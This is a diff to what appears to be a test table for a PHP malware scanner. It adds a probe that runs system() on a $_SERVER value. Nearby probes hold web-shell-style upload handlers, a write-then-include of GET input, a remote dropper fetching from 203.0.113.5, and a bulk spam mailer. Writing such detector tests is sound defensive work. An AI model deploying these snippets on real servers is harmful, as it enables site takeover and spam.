@@ -90,6 +90,7 @@ var probes = []struct{ name, rule, src string }{
 	{"upload saved as a script", "php.upload", "<form enctype=multipart/form-data method=post><input name=userfile type=file></form>\n<?php move_uploaded_file($userfile, 'up.php');"},
 	{"upload under the client's name after an empty directory", "php.upload", `<?php $dir = ""; $name = $_FILES['f']['name']; move_uploaded_file($_FILES['f']['tmp_name'], $dir . $name);`},
 	{"write then include", "php.exec-input", `<?php if (isset($_GET['c'])) { file_put_contents('./cache.txt', "<?php\n"); file_put_contents('./cache.txt', $_GET['c'], FILE_APPEND); require 'cache.txt'; }`},
+	{"server values by position", "php.exec-input", `<?php $a = array_values($_SERVER); system("" . $a[6]);`},
 	{"remote copy", "php.remote-dropper", `<?php copy("http://203.0.113.5/x.txt", "../cache/index.php");`},
 	{"spam mailer", "php.mailer", `<?php $to = explode("\n", $_POST['emails']); $h = "From: " . $_POST['from'] . "\r\n";
 		for ($i = 0; $i < count($to); $i++) { mail($to[$i], $_POST['subject'], stripslashes($_POST['body']), $h); }`},
